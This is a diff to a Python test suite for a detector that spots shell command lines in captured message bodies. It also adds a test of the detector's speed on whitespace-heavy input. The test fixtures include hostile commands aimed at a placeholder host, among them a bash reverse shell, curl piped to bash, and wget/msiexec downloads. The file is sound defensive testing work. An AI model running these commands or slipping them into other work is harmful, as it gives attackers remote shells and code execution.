@@ -5,6 +5,7 @@ from __future__ import annotations
 import datetime as dt
 import string
 import struct
+import time
 import tomllib
 from typing import TYPE_CHECKING, Any
 
@@ -24,6 +25,7 @@ from msmq_wire import GUID, captures, mqmq, mqqb, mqrr
 from msmq_wire.arrow.dotnet import PREFIX, type_names
 from msmq_wire.captures.engine import Settings
 from msmq_wire.captures.findings.bursts import ALL, Bursts
+from msmq_wire.captures.findings.command_lines import command_line
 from msmq_wire.captures.findings.contents import content_columns
 from msmq_wire.captures.findings.joining import JOINED, FactSums, joined_findings
 from msmq_wire.captures.findings.lengths import WrongLengths, wrong_lengths
@@ -697,7 +699,12 @@ COMMANDS = {
     "msiexec /q /i http://192.0.2.1/a.msi": "msiexec",
     "schtasks /create /tn a /tr b": "schtasks",
     "curl -s http://192.0.2.1/a | bash": "curl",
+    "curl --silent http://192.0.2.1/a": "curl",
+    "wget --no-check-certificate https://192.0.2.1/a": "wget",
     "bash -lc 'id'": "bash",
+    "bash --login -c id": "bash",
+    "bash -i >& /dev/tcp/192.0.2.1/80 0>&1": "bash",
+    "cmd.exe /s/c whoami": "cmd",
 }
 NO_COMMANDS = (
     "powershell",
@@ -733,6 +740,10 @@ NO_COMMANDS = (
     "xcmd /c a",
     "https://example.com/powershell -enc",
     "bash is a shell",
+    "bash -- a shell",
+    "curl -- a program",
+    "CMD/D/2023",
+    "CMD /c/o A",
     "cscript",
     "p^owershell -enc AAAA",
     "\0cmd /c a",
@@ -748,6 +759,14 @@ def test_command_lines(encoding: str) -> None:
     assert dict(zip(lines, columns["content"].to_pylist(), strict=True)) == dict(
         zip(lines, expected, strict=True)
     )
+
+
+def test_much_space_in_command_lines() -> None:
+    """The work for a body does not grow with the square of its space."""
+    bodies = [b"powershell" + b" " * 1000, b"powershell " + b"( " * 500, b" " * 1024, b"curl" + b"\t" * 1000]
+    started = time.process_time()
+    assert [command_line(body) for body in bodies * 50] == [None] * 200
+    assert time.process_time() - started < 1
 
 
 def test_the_page_names_every_program() -> None:
